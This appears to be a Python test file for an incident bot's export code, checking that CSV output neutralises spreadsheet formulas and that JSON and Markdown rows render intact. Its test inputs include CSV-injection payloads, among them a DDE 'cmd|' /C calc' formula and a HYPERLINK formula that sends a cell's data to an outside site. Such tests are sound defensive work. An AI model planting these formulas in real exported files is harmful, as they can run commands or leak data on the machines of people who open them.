"""Rows in each format: every reader gets the texts, and no spreadsheet a formula."""

import csv
import io
import json
from collections.abc import Sequence
from typing import Final

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from incident_bot.render import exports
from incident_bot.render.tables import AUDIT, INCIDENTS, TIMELINE, Cell

_TEXTS: Final = st.text(
    st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1, max_size=80
)
FORMULAS: Final = (
    "=1+1",
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    "  =1",
    "\ufeff=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    '=HYPERLINK("https://example.com/?"&A1,"here")',
)


def read_back(*lines: Sequence[Cell]) -> list[list[str]]:
    text = "".join(exports.csv_line(line) for line in lines)
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_text_in_a_spreadsheet(formula: str) -> None:
    assert read_back([formula, 1]) == [[f"'{formula}", "1"]]


@pytest.mark.parametrize("text", ["it is = 3", "a-b", "mail@example.com", "'quoted", "1 = 1", ""])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert read_back([text]) == [[text]]


def test_a_negative_number_is_a_number() -> None:
    assert exports.csv_line([-5, 0, True, None]) == "-5,0,true,\r\n"


@given(st.lists(st.lists(_TEXTS, min_size=3, max_size=3), max_size=5))
@example([['a"b', "c\r\nd,e", "f;g\n\n"], ["😀", "שלום", "x" * 3000]])
def test_a_reader_of_csv_finds_the_same_rows(rows: list[list[str]]) -> None:
    found = read_back(*rows)
    assert [[cell.removeprefix("'") for cell in row] for row in found] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]


@given(_TEXTS)
@example("a\u2028b\u2029c")
def test_a_json_line_is_one_line_with_the_same_text(text: str) -> None:
    line = exports.json_line(["a", "b"], [text, None])
    assert json.loads(line) == {"a": text, "b": None}
    assert line.endswith("\n")
    assert set(line[:-1]) & set("\n\r\u2028\u2029") == set()


def test_a_table_of_markdown_keeps_its_columns() -> None:
    head = exports.markdown_head(["a", "b", "c"])
    assert head == "| a | b | c |\n|---|---|---|\n"
    assert exports.markdown_line(["x | y\nz", True, None]) == "| x \\| y z | yes |  |\n"


def test_columns_have_names_of_their_own_and_a_meaning() -> None:
    for table in (INCIDENTS, TIMELINE, AUDIT):
        assert len(set(table.names)) == len(table.names)
        assert all(each.meaning for each in table.columns)
